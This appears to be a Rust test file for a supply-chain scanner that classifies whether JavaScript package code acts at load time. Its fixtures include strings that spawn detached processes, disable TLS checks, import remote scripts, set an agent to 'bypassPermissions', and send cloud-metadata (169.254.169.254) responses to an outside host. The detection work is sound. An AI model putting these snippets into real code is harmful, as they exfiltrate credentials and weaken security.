//! What happens as soon as a file is loaded, and what waits for a caller.

use weir_model::contents::{CapabilityKind, SourceKind, Surface};

use super::run;
use CapabilityKind::*;

const SPAWN: &str = "cp.spawn('node', ['x.js'], { detached: true, stdio: 'ignore' }).unref()";

/// Whether a library of this code has an ability, and whether it uses it as soon as it is loaded.
fn at_load(kind: CapabilityKind, code: &str) -> Option<bool> {
    let facts = run(&[("index.js", code)], &[], &[(Surface::Import, "index.js")]);
    let mut found = facts.capabilities.iter();
    let found = found.find(|it| it.kind == kind && it.surface == Surface::Import);
    found.map(|it| it.at_load)
}

#[test]
fn what_runs_at_once_is_told_from_what_waits_for_a_caller() {
    let begins = "const cp = require('child_process');";
    for (code, expected) in [
        ("SPAWN", true),
        ("try { if (x) { SPAWN } } catch {}", true),
        ("(() => { SPAWN })()", true),
        (
            "(async function () { await y; SPAWN })().catch(() => {})",
            true,
        ),
        ("!function () { SPAWN }.call(this)", true),
        ("function start() { SPAWN } start()", true),
        (
            "const start = () => { SPAWN }; const go = () => start(); go();",
            true,
        ),
        ("let start; start = () => { SPAWN }; start();", true),
        ("const start = once(() => { SPAWN }); start();", true),
        ("class Job { constructor() { SPAWN } } new Job();", true),
        ("setTimeout(() => { SPAWN }, 5000)", true),
        ("fetch(u).then((r) => r.text()).then(() => { SPAWN })", true),
        ("new Promise(() => { SPAWN })", true),
        (
            "require('https').get(u, (r) => { r.on('end', () => { SPAWN }) })",
            true,
        ),
        ("const idle = () => { SPAWN }; SPAWN", true),
        ("var a = { 7(e, t, n) { SPAWN } }; module.exports = a", true),
        ("const job = { start() { SPAWN } }; job.start()", true),
        ("class Job { start() { SPAWN } } new Job().start()", true),
        (
            "class Job { start() { SPAWN } } const job = new Job(); job.start()",
            true,
        ),
        (
            "class Job { constructor() { this.start() } start() { SPAWN } } new Job()",
            true,
        ),
        ("class Job { static start() { SPAWN } } Job.start()", true),
        ("exports.start = () => { SPAWN }; exports.start()", true),
        (
            "module.exports = { start() { SPAWN } }; module.exports.start()",
            true,
        ),
        (
            "class Job { start() { SPAWN } } const job = new Other(); job.start()",
            false,
        ),
        ("const job = { start() { SPAWN } }; other.start()", false),
        ("class Job { start() { SPAWN } } new Job()", false),
        ("exports.start = () => { SPAWN }", false),
        (
            "exports.start = function () { const go = () => { SPAWN }; go(); }",
            false,
        ),
        (
            "function start() { SPAWN } module.exports = { start }",
            false,
        ),
        (
            "function start() { SPAWN } exports.go = (start) => start();",
            false,
        ),
        (
            "class Job { constructor() { SPAWN } } module.exports = Job;",
            false,
        ),
        ("module.exports = class { job = SPAWN }", false),
        ("app.get('/x', () => { SPAWN })", false),
        ("program.command('x').action(() => { SPAWN })", false),
        ("process.on('exit', () => { SPAWN })", false),
        ("module.exports = once(() => { SPAWN })", false),
    ] {
        let code = format!("{begins} {}", code.replace("SPAWN", SPAWN));
        assert_eq!(at_load(DetachedProcess, &code), Some(expected), "{code}");
    }
}

#[test]
fn it_is_told_for_what_it_makes_a_difference() {
    for (kind, code, expected) in [
        (
            DisablesTls,
            "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'",
            true,
        ),
        (
            DisablesTls,
            "process.env.NODE_EXTRA_CA_CERTS = '/x/ca.pem'",
            true,
        ),
        (
            DisablesTls,
            "require('https').globalAgent.options.ca = [text]",
            true,
        ),
        (
            DisablesTls,
            "const https = require('https'); const o = { host: 'a.example' }; o['reject' + 'Unauthorized'] = false; https.get(o)",
            true,
        ),
        // An option of a later call, as parsers of settings have it.
        (
            DisablesTls,
            "const defaults = { rejectUnauthorized: false }; exports.get = (o) => require('https').get({ ...defaults, ...o })",
            false,
        ),
        (
            DisablesTls,
            "exports.insecure = () => { process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0' }",
            false,
        ),
        (
            Publishes,
            "fetch('https://a.example/repos/x/y/actions/workflows/release.yml/dispatches', { method: 'POST' })",
            true,
        ),
        (
            Publishes,
            "const [name, key] = ['x', '_attach' + 'ments']; fetch(u + name, { body: JSON.stringify({ [key]: {} }) })",
            true,
        ),
        (
            Publishes,
            "exports.publish = (data) => ({ _attachments: data })",
            false,
        ),
        (
            Publishes,
            "const { publish } = require('libnpmpublish'); exports.release = () => publish(m, d)",
            false,
        ),
        (RemoteScript, "import('https://a.example/m.js')", true),
        (
            RemoteScript,
            "import part from 'https://a.example/m.js'; part()",
            true,
        ),
        (
            RemoteScript,
            "exports.part = () => import('https://a.example/m.js')",
            false,
        ),
        (
            DrivesAgents,
            "require('x').query({ prompt: 'p', options: { permissionMode: 'bypassPermissions' } })",
            true,
        ),
    ] {
        assert_eq!(at_load(kind, code), Some(expected), "{code}");
    }
    // Defaults that others may use.
    let defaults = "exports.defaults = { permissionMode: 'bypassPermissions' }";
    assert_eq!(at_load(DrivesAgents, defaults), Some(false));
    // An address that is only named is not imported.
    assert_eq!(
        at_load(RemoteScript, "new URL('https://a.example/m.js')"),
        None
    );
}

#[test]
fn flows_say_whether_they_leave_at_once() {
    let body = "async function who() { const r = await fetch('http://169.254.169.254/latest/x'); await fetch('https://a.example/', { method: 'POST', body: await r.text() }); }";
    for (ends, expected) in [("who().catch(() => {});", true), ("export { who };", false)] {
        let code = format!("{body} {ends}");
        let facts = run(
            &[("index.mjs", &code)],
            &[],
            &[(Surface::Import, "index.mjs")],
        );
        let mut flows = facts.flows.iter();
        let flow = flows.find(|flow| flow.source == SourceKind::CloudMetadata);
        assert_eq!(flow.map(|flow| flow.at_load), Some(expected), "{ends}");
    }
}
